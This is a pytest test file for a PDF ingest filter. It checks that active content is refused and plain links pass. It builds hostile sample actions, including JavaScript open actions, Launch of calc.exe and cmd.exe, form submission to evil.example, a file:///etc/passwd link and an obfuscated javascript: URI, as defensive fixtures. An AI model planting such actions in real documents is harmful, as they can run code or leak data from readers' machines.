"""Active content in PDFs (issue 17, item 1): every action type, wherever it hangs, and files too
large to scan completely are refused; plain links and in-document navigation pass."""

from __future__ import annotations

import io
from collections.abc import Callable

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from core.errors import BadInput
from ingest import pdf_actions
from ingest.pdf import convert_pdf
from tests.fixtures.builders import make_pdf


def _build(edit: Callable[[pikepdf.Pdf], None]) -> bytes:
    with pikepdf.open(io.BytesIO(make_pdf())) as pdf:
        edit(pdf)
        out = io.BytesIO()
        pdf.save(out)
        return out.getvalue()


def _link(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    annot = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([10, 10, 100, 30]), A=action)
    )
    pdf.pages[0].obj[Name.Annots] = Array([annot])


def _open_action(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def edit(pdf: pikepdf.Pdf) -> None:
        pdf.Root[Name.OpenAction] = pdf.make_indirect(action)

    return edit


def _link_action(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    return lambda pdf: _link(pdf, action)


def _page_aa(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def edit(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj[Name.AA] = Dictionary(O=action)

    return edit


def _junk_then_script(pdf: pikepdf.Pdf) -> None:
    """The report's case: a 60,000-element array walked before the open action."""
    pdf.Root[Name("/Junk")] = Array([Dictionary(N=i) for i in range(60_000)])
    pdf.Root[Name.OpenAction] = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def _many_objects_then_script(pdf: pikepdf.Pdf) -> None:
    """60,000 indirect objects, the script hanging off the last one."""
    chain = [pdf.make_indirect(Dictionary(N=i)) for i in range(60_000)]
    chain[-1][Name.A] = Dictionary(S=Name.Launch, F=String("cmd.exe"))
    pdf.Root[Name("/Junk")] = Array(chain)


def _next_chain(pdf: pikepdf.Pdf) -> None:
    hidden = Dictionary(S=Name.SubmitForm, F=String("https://example.org/sammeln"))
    pdf.Root[Name.OpenAction] = Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=[hidden])


def _names_tree(pdf: pikepdf.Pdf) -> None:
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    pdf.Root[Name.Names] = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))


def _xfa(pdf: pikepdf.Pdf) -> None:
    pdf.Root[Name.AcroForm] = Dictionary(Fields=Array([]), XFA=String("<xdp/>"))


REFUSED = {
    "javascript-open-action": (
        _open_action(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))),
        "JavaScript",
    ),
    "launch": (_open_action(Dictionary(S=Name.Launch, F=String("calc.exe"))), "Launch"),
    "submitform-link": (
        _link_action(Dictionary(S=Name.SubmitForm, F=String("https://evil.example/"))),
        "SubmitForm",
    ),
    "importdata-link": (
        _link_action(Dictionary(S=Name.ImportData, F=String("daten.fdf"))),
        "ImportData",
    ),
    "gotor-link": (
        _link_action(Dictionary(S=Name.GoToR, F=String("\\\\server\\freigabe\\x.pdf"), D=[0])),
        "GoToR",
    ),
    "gotoe": (_open_action(Dictionary(S=Name.GoToE, D=Array([0]))), "GoToE"),
    "rendition": (_page_aa(Dictionary(S=Name.Rendition, OP=1)), "Rendition"),
    "unknown-type": (_link_action(Dictionary(S=Name("/Erfunden"))), "Erfunden"),
    "javascript-uri": (
        _link_action(Dictionary(S=Name.URI, URI=String("javascript:app.alert(1)"))),
        "javascript:",
    ),
    "javascript-uri-obfuscated": (
        _link_action(Dictionary(S=Name.URI, URI=String(" JavA\tScript:app.alert(1)"))),
        "javascript:",
    ),
    "file-uri": (_link_action(Dictionary(S=Name.URI, URI=String("file:///etc/passwd"))), "file:"),
    "page-additional-action": (
        _page_aa(Dictionary(S=Name.JavaScript, JS=String("1"))),
        "JavaScript",
    ),
    "names-tree": (_names_tree, "JavaScript"),
    "next-chain": (_next_chain, "SubmitForm"),
    "xfa-form": (_xfa, "XFA"),
    "junk-array-60000": (_junk_then_script, "JavaScript"),
    "objects-60000": (_many_objects_then_script, "Launch"),
}


@pytest.mark.parametrize("case", sorted(REFUSED))
def test_active_content_is_refused(case: str) -> None:
    edit, words = REFUSED[case]
    data = _build(edit)
    with pytest.raises(BadInput) as refused:
        convert_pdf(data, ocr=False)
    assert words in str(refused.value)
    assert "abgelehnt" in str(refused.value)


ACCEPTED = {
    "https-link": _link_action(Dictionary(S=Name.URI, URI=String("https://www.staedtetag.de/"))),
    "mailto-link": _link_action(Dictionary(S=Name.URI, URI=String("mailto:post@example.org"))),
    "goto-link": _link_action(Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]))),
    "named-next-page": _open_action(Dictionary(S=Name.Named, N=Name.NextPage)),
    "destination-open-action": lambda pdf: pdf.Root.__setitem__(
        Name.OpenAction, Array([pdf.pages[0].obj, Name.Fit])
    ),
}


@pytest.mark.parametrize("case", sorted(ACCEPTED))
def test_plain_links_and_navigation_pass(case: str) -> None:
    converted = convert_pdf(_build(ACCEPTED[case]), ocr=False)
    assert "Kita" in converted.text or converted.text.strip()


def test_a_file_beyond_the_scan_limit_is_refused_not_passed(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Fail closed: a scan that would have to stop early refuses instead of answering 'clean'.
    The limit is lowered so that a clean file of 60,000 objects crosses it."""
    data = _build(lambda pdf: pdf.Root.__setitem__(Name("/Junk"), Array(list(range(10)))))
    assert pdf_actions.active_content_reason(data) is None
    many = _build(
        lambda pdf: pdf.Root.__setitem__(
            Name("/Junk"), Array([pdf.make_indirect(Dictionary(N=i)) for i in range(60_000)])
        )
    )
    assert pdf_actions.active_content_reason(many) is None
    monkeypatch.setattr(pdf_actions, "MAX_OBJECTS", 50_000)
    reason = pdf_actions.active_content_reason(many)
    assert reason is not None and "nicht vollständig" in reason


def test_an_unreadable_file_is_not_reported_clean() -> None:
    reason = pdf_actions.active_content_reason(b"%PDF-1.7\n" + bytes(range(256)) * 4)
    assert reason is not None and "nicht vollständig" in reason
